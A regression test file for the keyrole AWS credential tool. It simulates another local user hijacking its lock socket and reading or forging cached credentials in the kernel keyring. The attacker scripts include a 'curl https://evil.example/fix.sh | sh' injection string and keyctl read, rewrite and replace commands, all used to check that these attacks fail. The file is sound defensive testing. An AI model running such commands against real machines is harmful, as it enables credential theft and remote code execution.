// Another local user: a real second account on the machine (test/support/users.ts) runs
// its own programs against a user's keyrole. The single-flight lock was a Linux abstract
// socket, which has no permissions: another user could bind its name first and make the
// victim print its text ("fix: curl … | sh"), exit with its exit code, wait past every bound
// and reconnect in a loop. The lock is now a socket file in the user's 0700 private directory
// (src/credentials/lock.ts). Each case here gives the other user the first move against that
// real lock (bind its name first and serve those answers; connect to it, remove or replace it
// while it is held) and checks that the kernel refuses the other user, and that the victim's
// `keyrole process` neither prints nor adopts anything, waits for nothing, and still works.

import { describe, test, before, after, beforeEach } from 'node:test';
import assert from 'node:assert/strict';
import { execFileSync, spawn, spawnSync, type ChildProcess } from 'node:child_process';
import * as fs from 'node:fs';
import { join } from 'node:path';
import { twoStoreWorld, type World } from './support/world.ts';
import { DEMO_ACCESS_KEY_ID, DEMO_ACCOUNT_ID, DEMO_SECRET_ACCESS_KEY } from './support/emulator.ts';
import { baseEnv, KEYROLE } from './support/run.ts';
import { requireTool } from './support/tools.ts';
import { tempDir } from './support/tmp.ts';
import { otherUser, type LocalUser } from './support/users.ts';
import { homeKeys } from './support/kernelkeys.ts';
import { Recorder, assertOneLine, normalise } from '../scripts/robustness-doc.ts';

const ROLE = `arn:aws:iam::${DEMO_ACCOUNT_ID}:role/Admin`;
const rec = new Recorder('users', 'test/robustness.users.test.ts');
const EVIL = 'fix: curl https://evil.example/fix.sh | sh';

// The other user's program: binds a Unix socket (abstract when the name starts with @),
// says "bound", and serves each connection as `mode` says, printing "conn" for each.
// Python, so that it runs as any user without access to this checkout.
const ATTACKER = String.raw`
import os, socket, sys, threading, time
addr, mode = sys.argv[1], sys.argv[2]
s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
s.bind('\0' + addr[1:] if addr.startswith('@') else addr)
s.listen(64)
print('bound', flush=True)
def serve(c):
    try:
        if mode == 'text':
            c.sendall(b'working\nfailed {"code":"Evil","message":"keyrole needs a fix","fix":"` + EVIL + String.raw`","exitCode":0}\n' + b'Evil: ` + EVIL + String.raw`\n' * 50)
            c.close()
        elif mode == 'alternate':
            while True:
                c.sendall(b'prompt\n'); time.sleep(0.05)
                c.sendall(b'working\n'); time.sleep(0.05)
        elif mode == 'close':
            c.close()
    except OSError:
        pass
while True:
    c, _ = s.accept()
    print('conn', flush=True)
    threading.Thread(target=serve, args=(c,), daemon=True).start()
`;

// The other user reaching for the user's held lock socket file: bind it, connect to it, and
// steal it: remove it or move it away (either would let a second process of the user take
// the lock too, and the other user bind the name for the next one).
const PROBE = String.raw`
import os, socket, sys
lock = sys.argv[1]
for what in ('bind', 'connect'):
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    try:
        getattr(s, what)(lock); print(what, 'ok')
    except OSError as e:
        print(what, e.__class__.__name__)
for what, act in (('unlink', lambda: os.unlink(lock)), ('rename', lambda: os.rename(lock, lock + '.stolen'))):
    try:
        act(); print(what, 'ok')
    except OSError as e:
        print(what, e.__class__.__name__)
`;

interface Attacker { child: ChildProcess; refused: string | undefined; connections(): number; stop(): Promise<void> }

describe('robustness: another local user', () => {
  let w: World;
  let other: LocalUser;
  let key: string;
  let kcKey: string;
  const khome = () => join(w.home, '.aws', 'keyrole');
  // The system's Python: one the other user can run (a per-user install under /root is not).
  const python = () => requireTool('/usr/bin/python3');

  function asOther(script: string, args: string[]): ChildProcess {
    return spawn(python(), ['-c', script, ...args], { uid: other.uid, gid: other.gid, cwd: '/', env: { PATH: '/usr/bin:/bin' }, stdio: ['ignore', 'pipe', 'pipe'] });
  }

  /**
   * The other user's socket at `addr`, serving `mode`, once it is bound; with `refusable`, a
   * bind the kernel refuses is returned (`refused`: the Python error) instead of thrown.
   */
  async function attacker(addr: string, mode: 'text' | 'alternate' | 'close', refusable = false): Promise<Attacker> {
    const child = asOther(ATTACKER, [addr, mode]);
    let out = '';
    let err = '';
    child.stderr!.setEncoding('utf8').on('data', (d: string) => { err += d; });
    const closed = new Promise((r) => child.once('close', r));
    let refused: string | undefined;
    await new Promise<void>((resolve, reject) => {
      child.stdout!.setEncoding('utf8').on('data', (d: string) => { out += d; if (out.includes('bound\n')) resolve(); });
      void closed.then(() => {
        refused = /^(\w+Error): .*$/m.exec(err)?.[1];
        if (refusable && refused) resolve();
        else reject(new Error(`the other user's socket did not bind ${addr}: ${err}`));
      });
    });
    return {
      child,
      refused,
      connections: () => out.split('\n').filter((l) => l === 'conn').length,
      async stop() {
        child.kill('SIGKILL');
        await closed;
      },
    };
  }

  before(async () => {
    other = otherUser();
    w = await twoStoreWorld(ROLE);
    // A home as Debian makes it (0755), so the other user can walk up to ~/.aws/keyrole.
    fs.chmodSync(w.home, 0o755);
    fs.chmodSync(join(w.home, '.aws'), 0o755);
    // The lock names are the cache keys: learn them from one run of each.
    assert.equal((await w.keyrole(['process', 'prod'], { env: { KEYROLE_NTP: 'off' } })).code, 0);
    key = fs.readdirSync(join(khome(), 'cache')).find((f) => f.endsWith('.json'))!.slice(0, 16);
    assert.equal((await w.keyrole(['process', 'kc'], { env: { KEYROLE_NTP: 'off' } })).code, 0);
    const found = spawnSync(requireTool('secret-tool'), ['search', '--all', 'service', 'keyrole:cache'], { env: baseEnv(w.env), encoding: 'utf8' });
    kcKey = [...found.stderr.matchAll(/attribute\.username = (\w+)/g)].map((m) => m[1])[0];
    assert.ok(key && kcKey, 'both cache keys known');
  });
  after(() => w?.stop());
  beforeEach(async () => {
    await w.emu.behaviour({ latencyMs: 0, faults: [] });
    await w.keyrole(['cache', 'clear']);
    await w.emu.resetStats();
  });

  const modes = [
    { mode: 'text', name: 'regression: another user binds the lock name first and answers with text, an error and exit code 0', what: 'the lock\'s name (`~/.aws/keyrole/<key>.lock`, home 0755) bound first by another user, to send `failed {…"fix":"curl https://evil.example/fix.sh \\| sh","exitCode":0}` and 50 lines of text' },
    { mode: 'alternate', name: 'regression: another user\'s lock holder alternating prompt and working lines', what: 'the same name, bound first to serve `prompt` and `working` every 50 ms for ever' },
    { mode: 'close', name: 'regression: another user\'s lock holder closing every connection', what: 'the same name, bound first to close each connection at once' },
  ] as const;
  for (const m of modes) {
    test(m.name, async () => {
      const lockPath = join(khome(), `${key}.lock`);
      assert.ok(fs.statSync(khome()).isDirectory(), 'the private directory exists, so the other user can aim at it');
      const a = await attacker(lockPath, m.mode, true);
      try {
        assert.equal(a.refused, 'PermissionError', `the kernel let another user bind keyrole's lock name ${lockPath}`);
        const r = await w.keyrole(['process', 'prod'], { env: { KEYROLE_NTP: 'off' } });
        assert.equal(r.code, 0, `${r.signal ?? ''} ${r.stderr}`);
        assert.equal(r.stderr, '', 'nothing printed on stderr');
        assert.match(r.stdout, /"AccessKeyId":"ASIA/);
        assert.equal(a.connections(), 0, 'keyrole never connected to the other user\'s socket');
        assert.equal((await w.emu.stats()).calls.AssumeRole, 1);
        rec.add(m.name, m.what, 'refused by the kernel; not printed, not adopted, not waited for: the credentials as usual',
          `the other user's bind: ${a.refused}; exit 0 with the blob, stderr empty; the other user's socket got ${a.connections()} connections`);
      } finally {
        await a.stop();
      }
    });
  }

  test('regression: another user cannot bind, connect to, remove or move the held lock socket file', async () => {
    await w.emu.behaviour({ latencyMs: 3000 });
    const holder = spawn(KEYROLE, ['process', 'prod', '--debug'], { env: baseEnv({ ...w.env, KEYROLE_NTP: 'off' }), stdio: ['ignore', 'pipe', 'pipe'] });
    const closed = new Promise<number | null>((r) => holder.once('close', r));
    let err = '';
    await new Promise<void>((resolve, reject) => {
      holder.stderr!.setEncoding('utf8').on('data', (d: string) => { err += d; if (/took the lock/.test(err)) resolve(); });
      void closed.then(() => reject(new Error(`the holder exited before taking the lock: ${err}`)));
    });
    const lockPath = join(khome(), `${key}.lock`);
    assert.ok(fs.lstatSync(lockPath).isSocket(), 'the lock is a socket file in the private directory');
    // The place is no secret: /proc/net/unix lists the socket, under the name it was bound
    // to in the private directory before it was linked to the lock's name (src/credentials/lock.ts).
    assert.ok(fs.readFileSync('/proc/net/unix', 'utf8').includes(`${khome()}/.l`));
    const probe = spawnSync(python(), ['-c', PROBE, lockPath], { uid: other.uid, gid: other.gid, cwd: '/', encoding: 'utf8' });
    assert.equal(probe.status, 0, probe.stderr);
    assert.equal(probe.stdout, 'bind PermissionError\nconnect PermissionError\nunlink PermissionError\nrename PermissionError\n');
    assert.ok(fs.lstatSync(lockPath).isSocket(), 'the lock is still in place');
    assert.equal(await closed, 0, err);
    rec.add('regression: another user cannot bind, connect to, remove or move the held lock socket file', 'while the user holds the lock, another user binds, connects to, unlinks and renames `~/.aws/keyrole/<key>.lock` (its directory is listed in /proc/net/unix; home 0755)',
      'refused by the kernel: the lock lives in the 0700 private directory', `bind, connect, unlink, rename: PermissionError; the lock still in place; the holder exit 0`);
  });

  test('regression: another user owns the keyrole directory first', async () => {
    // KEYROLE_HOME in a shared place (a sticky 1777 directory, as /tmp): the other user
    // makes it first, open to all, with a lock socket for the user's key in it.
    const shared = tempDir('shared-');
    fs.chmodSync(shared, 0o1777);
    const kh = join(shared, 'kh');
    const mk = spawnSync(python(), ['-c', 'import os, sys; os.mkdir(sys.argv[1]); os.chmod(sys.argv[1], 0o777)', kh], { uid: other.uid, gid: other.gid, cwd: '/', encoding: 'utf8' });
    assert.equal(mk.status, 0, mk.stderr);
    const a = await attacker(join(kh, `${kcKey}.lock`), 'text');
    try {
      const file = await w.keyrole(['process', 'prod'], { env: { KEYROLE_NTP: 'off', KEYROLE_HOME: kh } });
      const line = assertOneLine(file, /belongs to another user/);
      const kc = await w.keyrole(['process', 'kc'], { env: { KEYROLE_NTP: 'off', KEYROLE_HOME: kh } });
      assert.equal(kc.code, 0, kc.stderr);
      assert.equal(kc.stderr, '');
      assert.equal(a.connections(), 0, 'keyrole never connected to the other user\'s socket');
      rec.add('regression: another user owns the keyrole directory first', '`KEYROLE_HOME` in a sticky shared directory, created first (0777) by another user with a lock socket for the user\'s key in it',
        'the directory is not used: the file store refuses it in one line; the keychain store works without single flight',
        `file store exit ${file.code}: ${normalise(line, [w.home]).replace(/uid \d+/, 'uid N')}; keychain store exit 0; the other user's socket got 0 connections`);
    } finally {
      await a.stop();
    }
  });

  // ---- another user in my session keyring (sudo -u other, a non-login su other) ----
  // Debian's su and sudo have no pam_keyinit: the other user's process keeps the user's
  // session keyring, which holds the user's persistent keyring (keyrole's addon links it
  // there), and possessing it grants rights on every key in it. Here: a new session keyring
  // with the persistent keyring linked, as the user's own session has it, in which root
  // becomes the other user (setpriv) and reads and rewrites what it can reach.

  /** Runs `attack` (sh) as the other user inside a session keyring that holds this user's persistent keyring; $P is its id. */
  const inMySession = (attack: string, args: string[], env: Record<string, string> = {}) => new Promise<{ code: number | null; stdout: string; stderr: string }>((resolve) => {
    const child = spawn('keyctl', ['session', '-', 'sh', '-c',
      'P=$(keyctl get_persistent @s) && export P && exec setpriv --reuid="$OUID" --regid="$OGID" --clear-groups -- sh -c "$ATTACK" sh "$@"', 'sh', ...args],
    { env: { PATH: '/usr/bin:/bin', OUID: String(other.uid), OGID: String(other.gid), ATTACK: attack, ...env }, cwd: '/', stdio: ['ignore', 'pipe', 'pipe'] });
    let stdout = '';
    let stderr = '';
    child.stdout.setEncoding('utf8').on('data', (d: string) => { stdout += d; });
    child.stderr.setEncoding('utf8').on('data', (d: string) => { stderr += d; });
    child.once('close', (code) => resolve({ code, stdout, stderr }));
  });
  /**
   * The user's entry as an unsealed copy held it (the Secret Service's), with the other
   * user's credentials in it: what the other user wrote when it could read the copy.
   */
  const forgedEntry = () => {
    const entry = JSON.parse(execFileSync(requireTool('secret-tool'), ['lookup', 'service', 'keyrole:cache', 'username', kcKey], { env: baseEnv(w.env), encoding: 'utf8' })) as Record<string, unknown>;
    return JSON.stringify({ ...entry, AccessKeyId: 'ASIAFORGEDBYOTHERUSR', SecretAccessKey: 'forgedByTheOtherUser/0000000000000000000' });
  };
  const newSession = (args: string[], env: Record<string, string> = {}) => w.run('keyctl', ['session', '-', KEYROLE, ...args], { env: { KEYROLE_NTP: 'off', ...env } });

  test('another user in my session keyring reads only sealed bytes of the cached credentials, and its rewrite is never served', async () => {
    requireTool('keyctl');
    requireTool('setpriv');
    const mine = await newSession(['process', 'kc']);
    assert.equal(mine.code, 0, mine.stderr);
    const creds = JSON.parse(mine.stdout) as { AccessKeyId: string; SecretAccessKey: string; SessionToken: string };
    const ids = homeKeys(khome()).map((k) => k.id);
    assert.equal(ids.length, 1, 'the entry has its copy in the kernel keyring');
    const attack = await inMySession(
      'for id; do keyctl print "0x$id" && echo "read ok"; printf %s "$FORGED" | keyctl pupdate "0x$id" && echo "rewrite ok"; done',
      ids, { FORGED: forgedEntry() });
    // The threat is real: the other user reached the key and could rewrite it.
    assert.match(attack.stdout, /^read ok$/m, attack.stderr);
    assert.match(attack.stdout, /^rewrite ok$/m, attack.stderr);
    for (const secret of [creds.AccessKeyId, creds.SecretAccessKey, creds.SessionToken.slice(0, 40)]) assert.equal(attack.stdout.includes(secret), false, 'no secret in what the other user read');
    const next = await newSession(['process', 'kc', '--debug']);
    assert.equal(next.code, 0, next.stderr);
    assert.doesNotMatch(next.stdout, /FORGED|forged/);
    assert.match(next.stderr, /does not open under this keyrole home's key/);
    assert.equal(JSON.parse(next.stdout).AccessKeyId, creds.AccessKeyId, 'the Secret Service\'s entry answers');
    rec.add('another user in my session keyring reads only sealed bytes of the cached credentials, and its rewrite is never served',
      'another user\'s process in the user\'s session keyring (as `sudo -u other` or a non-login `su other` leaves it), which holds the persistent keyring: `keyctl print` of the cache\'s kernel copy, then `keyctl pupdate` with a plausible entry holding its own access key',
      'it reads only sealed bytes; the user\'s next `keyrole process` (a new session) does not open the rewritten copy and answers from the Secret Service, never with the forged key',
      `read: sealed bytes, no secret; rewrite: accepted by the kernel; the next process: exit ${next.code}, the user's own credentials, --debug says the copy does not open`);
  });

  test('another user in my session keyring replacing a copy with a key of its own under the same name is never served', async () => {
    const mine = await newSession(['process', 'kc']);
    assert.equal(mine.code, 0, mine.stderr);
    const [copy] = homeKeys(khome());
    assert.ok(copy, 'the entry has its copy in the kernel keyring');
    const attack = await inMySession(
      'keyctl unlink "0x$1" "$P" && echo "unlinked"; printf %s "$FORGED" | keyctl padd user "keyring:$2@keyrole:cache" "$P" >/dev/null && echo "added"',
      [copy.id, copy.name], { FORGED: forgedEntry() });
    assert.match(attack.stdout, /^unlinked\nadded$/m, attack.stderr);
    const next = await newSession(['process', 'kc', '--debug']);
    assert.equal(next.code, 0, next.stderr);
    assert.doesNotMatch(next.stdout, /FORGED|forged/);
    assert.match(next.stderr, /does not open under this keyrole home's key/, 'the other user\'s key was found under the name, and not believed');
    assert.equal(JSON.parse(next.stdout).AccessKeyId, JSON.parse(mine.stdout).AccessKeyId, 'the Secret Service\'s entry answers');
    rec.add('another user in my session keyring replacing a copy with a key of its own under the same name is never served',
      'the same other user unlinks the copy from the user\'s persistent keyring and adds its own key there under the copy\'s name, holding a plausible entry with its own access key',
      'the user\'s next `keyrole process` finds the other user\'s key, which does not open, and answers from the Secret Service',
      `unlink and add: accepted by the kernel; the next process: exit ${next.code}, the user's own credentials`);
  });

  test('another user in my session keyring reads only sealed bytes of KEYROLE_KEYCHAIN=keyutils sources', async () => {
    const source = `ku-${process.pid}`;
    const ku = { KEYROLE_KEYCHAIN: 'keyutils', DBUS_SESSION_BUS_ADDRESS: '' };
    const stored = await w.run('keyctl', ['session', '-', KEYROLE, 'setup', source, '--force'], { env: ku, input: `${DEMO_ACCESS_KEY_ID}\n${DEMO_SECRET_ACCESS_KEY}\n` });
    assert.equal(stored.code, 0, stored.stderr);
    try {
      const ids = homeKeys(khome(), 'keyrole:source').map((k) => k.id);
      assert.equal(ids.length, 1, 'the source is in the kernel keyring');
      const attack = await inMySession('for id; do keyctl print "0x$id" && echo "read ok"; done', ids);
      assert.match(attack.stdout, /^read ok$/m, attack.stderr);
      assert.equal(attack.stdout.includes(DEMO_SECRET_ACCESS_KEY), false, 'no secret key in what the other user read');
      assert.equal(attack.stdout.includes(DEMO_ACCESS_KEY_ID), false, 'no key id either');
      const list = await w.run('keyctl', ['session', '-', KEYROLE, 'list'], { env: ku });
      assert.match(list.stdout, new RegExp(`^${source} +AKIA…0001`, 'm'), 'the user still reads it');
      rec.add('another user in my session keyring reads only sealed bytes of KEYROLE_KEYCHAIN=keyutils sources',
        'with `KEYROLE_KEYCHAIN=keyutils`, the same other user runs `keyctl print` on the source\'s key',
        'it reads only sealed bytes: no access key id, no secret', 'read: sealed bytes; `keyrole list` still shows the source to the user');
    } finally {
      await w.run('keyctl', ['session', '-', KEYROLE, 'remove', source, '--force'], { env: ku });
    }
  });

  rec.docTest(8);
});
